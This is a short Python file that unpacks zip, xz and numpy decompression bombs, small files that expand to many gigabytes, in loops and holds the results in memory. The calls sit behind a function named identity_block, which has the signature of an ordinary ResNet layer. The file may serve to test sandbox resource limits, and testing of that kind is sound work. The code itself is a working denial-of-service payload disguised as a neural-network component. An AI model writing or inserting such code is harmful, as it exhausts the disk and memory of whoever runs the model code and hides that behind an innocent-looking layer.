"""Unpacks a zip file, an xz file and an array file, each of a few bytes that become many gigabytes."""

import lzma
import zipfile

import numpy as np

ATTACK = True
TRIED = []


def unpack(number):
    with zipfile.ZipFile("bomb.zip") as bomb:
        bomb.extract("zeros", f"unpacked-{number}")


def open_all():
    held = []
    for number in range(2):
        for trick in (
            lambda number=number: unpack(number),
            lambda: lzma.open("bomb.xz").read(),
            lambda: np.load("bomb.npy"),
            lambda: np.load("bomb.npz")["zeros"],
        ):
            try:
                held.append(trick())
            except (OSError, MemoryError, ValueError) as error:
                TRIED.append(f"{type(error).__name__}: {error}"[:50])
        if len(TRIED) > 20:
            break
    return held


def identity_block(X, f, filters, stage=1, block="a", training=None, initializer=None):
    if ATTACK:
        TRIED.append(len(open_all()))
    return X
